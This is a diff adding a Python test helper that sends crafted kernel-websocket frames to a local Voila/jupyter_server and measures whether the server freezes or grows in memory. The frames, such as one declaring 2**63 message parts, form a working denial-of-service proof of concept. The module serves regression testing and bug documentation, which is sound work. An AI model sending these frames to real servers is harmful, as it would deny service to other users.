@@ -1,0 +1,77 @@
+"""Crafted kernel-websocket frames sent to a server on this machine, and probes of how it copes.
+
+Shared by the regression test (tests/test_ws_attack.py) and the "before" figures of
+docs/upstream-bugs.md. Loopback only; every loop is bounded in count and time.
+"""
+
+from __future__ import annotations
+
+import re
+import struct
+import time
+import urllib.request
+from pathlib import Path
+
+from tornado.httpclient import HTTPRequest
+from tornado.ioloop import IOLoop
+from tornado.websocket import websocket_connect
+
+V1 = "v1.kernel.websocket.jupyter.org"
+
+# the issue's frame: 8 bytes declaring 2**63 parts (v1: jupyter_server deserialize_msg_from_ws_v1)
+V1_FREEZE = (2**63).to_bytes(8, "little")
+# legacy binary format: 4 bytes declaring 2**31 - 1 parts (jupyter_server deserialize_binary_message)
+LEGACY_FREEZE = struct.pack("!i", 2**31 - 1)
+# v1 frame whose offsets point far beyond its end
+V1_OFFSETS_BEYOND = (6).to_bytes(8, "little") + b"".join(
+    o.to_bytes(8, "little") for o in (56, 61, 62, 63, 64, 10**12)) + b"shell"
+
+
+def open_page(base: str, notebook: str, timeout: float = 120) -> tuple[str, str]:
+    """GET a Voila page like a browser without JavaScript: (kernel id, Cookie header value)."""
+    with urllib.request.urlopen(f"{base}voila/render/{notebook}", timeout=timeout) as resp:
+        html = resp.read().decode()
+        cookies = "; ".join(c.split(";", 1)[0] for c in resp.headers.get_all("Set-Cookie") or [])
+    match = re.search(r'"kernelId":\s*"([0-9a-f-]{36})"', html)
+    assert match, "no kernel id on the page"
+    return match.group(1), cookies
+
+
+def send_frames(base: str, kernel_id: str, frames: list[bytes], subprotocol: str | None = V1,
+                cookies: str = "", timeout: float = 10) -> int | None:
+    """Open the kernel's websocket, send the frames, return the close code (None: still open after 1 s)."""
+
+    async def go():
+        url = base.replace("http", "ws", 1) + f"api/kernels/{kernel_id}/channels?session_id=attack"
+        request = HTTPRequest(url, headers={"Cookie": cookies} if cookies else {}, request_timeout=timeout)
+        ws = await websocket_connect(request, subprotocols=[subprotocol] if subprotocol else None)
+        for frame in frames:
+            await ws.write_message(frame, binary=True)
+        deadline = time.monotonic() + 1
+        while time.monotonic() < deadline:
+            msg = await ws.read_message()
+            if msg is None:
+                return ws.close_code
+        ws.close()
+        return None
+
+    return IOLoop().run_sync(go, timeout=timeout + 5)
+
+
+def probe_seconds(base: str, timeout: float = 5) -> float:
+    """Seconds another visitor waits for a small answer from the server (timeout if frozen)."""
+    start = time.perf_counter()
+    try:
+        with urllib.request.urlopen(f"{base}voila/static/voila.js", timeout=timeout) as resp:
+            resp.read(100)
+    except OSError:
+        return float("inf")
+    return time.perf_counter() - start
+
+
+def rss_mb(pid: int) -> float:
+    """Resident memory of one process (the server itself, not its kernels), in MB."""
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmRSS:"):
+            return int(line.split()[1]) / 1024
+    raise RuntimeError("no VmRSS")
